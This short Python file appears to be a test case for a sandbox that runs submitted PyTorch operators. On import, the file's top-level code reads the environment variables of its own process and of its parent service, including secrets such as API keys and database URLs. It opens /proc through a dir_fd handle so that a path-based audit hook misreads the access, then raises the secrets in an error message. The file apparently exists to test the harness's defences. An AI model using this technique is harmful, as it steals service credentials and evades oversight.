"""Row 18: a submitted operator whose module-level code reads the environment of the process that loads it and of
that process's parent (the service: API key, database URL), through a `dir_fd` open that a path-based audit hook
misreads, and raises it."""

import os

import torch
import torch.nn as nn

leaked = b""
for pid in ("self", str(os.getppid())):
    try:
        proc = os.open("/proc/self/..", os.O_RDONLY)
        handle = os.open(f"{pid}/environ", os.O_RDONLY, dir_fd=proc)
        leaked += os.read(handle, 65536).replace(b"\0", b" ")
    except OSError as exc:
        leaked += str(exc).encode()
raise RuntimeError("LEAKED " + leaked.decode(errors="replace"))


class Model(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)


def get_inputs():
    return [torch.randn(64, 256)]


def get_init_inputs():
    return []
